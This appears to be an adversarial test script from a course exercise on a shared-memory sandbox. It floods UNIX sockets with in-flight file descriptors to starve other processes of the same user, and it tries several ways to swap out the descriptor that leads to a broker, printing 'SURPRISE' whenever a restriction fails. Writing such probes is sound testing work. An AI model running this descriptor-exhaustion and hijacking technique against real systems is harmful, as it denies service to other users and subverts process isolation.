"""Leaves so many descriptors on their way that nobody else of the same user may send one."""
# attack: week=11 exercise=shm
import ctypes
import os
import select
import socket

pairs = [socket.socketpair() for _ in range(8)]
mine = pairs[0][0].fileno()


def park(there):
    for number in range(1000):
        socket.send_fds(there, [b"parked"], [0] * 250, socket.MSG_DONTWAIT)
        print("SURPRISE: message", number, "carried descriptors")


def by_closing():
    os.close(4)
    os.dup(mine)


def by_closing_a_range():
    os.closerange(4, 5)
    os.dup(mine)


def by_many_messages():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.sendmmsg(mine, None, 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "sendmmsg")
    print("SURPRISE: there is sendmmsg")


def in_its_place():
    """Park where only what leads to the broker should be."""
    there = os.fstat(4).st_ino
    for replace in (
        by_closing,
        by_closing_a_range,
        by_many_messages,
        lambda: os.dup2(mine, 4),
        lambda: os.dup2(mine, 4, inheritable=False),
    ):
        try:
            replace()
        except OSError as error:
            print("refused", error)
        if os.fstat(4).st_ino != there:
            print("SURPRISE: something else is in its place")
            park(socket.socket(fileno=4))


for here, _ in pairs:
    try:
        park(here)
    except OSError as error:
        print("no more", error)
in_its_place()
select.poll().poll(20_000)


class SharedMatrix:
    pass
